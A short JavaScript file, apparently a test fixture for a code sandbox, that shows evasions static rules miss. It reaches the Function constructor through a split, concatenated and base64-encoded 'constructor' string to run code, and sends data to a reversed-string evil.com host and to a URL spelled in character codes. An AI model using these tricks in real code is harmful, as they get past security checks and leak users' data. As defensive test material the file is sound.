// What static rules cannot see: values that are known only while running. The host's permissions stop what these try.
const key = ['con', 'struc', 'tor'].join('')
const half = 'con'
const rest = 'structor'
const decoded = atob('Y29uc3RydWN0b3I=')
export const made = [
  ((x) => x)[key]('return 1'),
  ((x) => x)[half + rest]('return 1'),
  ((x) => x)[decoded]('return 1'),
  Object.getOwnPropertyDescriptor(Object.getPrototypeOf(() => {}), key).value('return 1'),
]
export async function send(host, data, letters) {
  const target = 'moc.live'.split('').reverse().join('')
  await host.http.fetch(`https://${target}/${data}`)
  await host.http.fetch(letters.map((n) => String.fromCharCode(n)).join(''))
}
